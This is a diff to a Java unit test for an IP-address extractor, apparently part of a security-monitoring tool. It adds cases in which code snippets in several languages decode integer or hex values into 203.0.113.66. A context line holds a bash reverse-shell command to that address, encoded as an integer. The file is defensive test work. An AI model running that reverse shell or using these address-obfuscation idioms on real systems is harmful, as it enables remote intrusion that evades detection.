@@ -1,6 +1,7 @@
 package bzh.vigie.observable;
 
 import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertTrue;
 
 import java.util.List;
 import java.util.Map;
@@ -39,6 +40,40 @@ final class AddressesTest {
         assertEquals(ONE, Addresses.in("bash -i >& /dev/tcp/3405803842/443 0>&1", false));
         assertEquals(Set.of("11.0.113.66"), Addresses.in("ping http://0xb007142", false));
         assertEquals(Set.of("1.0.0.2"), Addresses.in("ftp://1.2/", false));
+    }
+
+    /** Python, Perl, bash and Node write 203.0.113.66 for each; PHP, Ruby and .NET by their manuals. */
+    @Test
+    void aNumberOfWhichAProgramMakesAnAddressIsThatAddress() {
+        for (String program : List.of(
+                "socket.inet_ntoa(struct.pack('>I',3405803842))",
+                "socket.inet_ntoa(struct.pack('<I',1114702027))",
+                "socket.inet_ntoa(bytes.fromhex('cb007142'))",
+                "ipaddress.ip_address(3405803842)",
+                "'.'.join(map(str,(3405803842).to_bytes(4,'big')))",
+                "'.'.join(str(3405803842>>i&255) for i in (24,16,8,0))",
+                "h='CB007142'\n'.'.join(str(int(h[i:i+2],16)) for i in range(0,8,2))",
+                "my $p=join '.',map{hex}unpack('(A2)4','CB007142');",
+                "join('.',unpack('C4',pack('N',3405803842)))",
+                "inet_ntoa(pack('V',1114702027))",
+                "n=3405803842; echo $((n>>24)).$((n>>16&255)).$((n>>8&255)).$((n&255))",
+                "h=cb007142; printf '%d.%d.%d.%d' 0x${h:0:2} 0x${h:2:2} 0x${h:4:2} 0x${h:6:2}",
+                "[24,16,8,0].map(i=>3405803842>>>i&255).join('.')",
+                "'cb007142'.match(/../g).map(x=>parseInt(x,16)).join('.')",
+                "long2ip(hexdec(\"cb007142\"))",
+                "long2ip(3405803842)",
+                "[3405803842].pack('N').unpack('C4').join('.')",
+                "([ipaddress]1114702027).IPAddressToString",
+                "new IPAddress(1114702027)")) {
+            assertTrue(Addresses.in(program, false).contains("203.0.113.66"), program);
+        }
+        for (String text : List.of(
+                "made 1733234400 id cb007142",
+                "{cb007142-0000-4000-8000-000000000000} unpack",
+                "struct.unpack('<I', x); version = '20261203'",
+                "unpack('N', $x); $most = 4294967296 + 65536;")) {
+            assertEquals(Set.of(), Addresses.in(text, false), text);
+        }
     }
 
     @Test
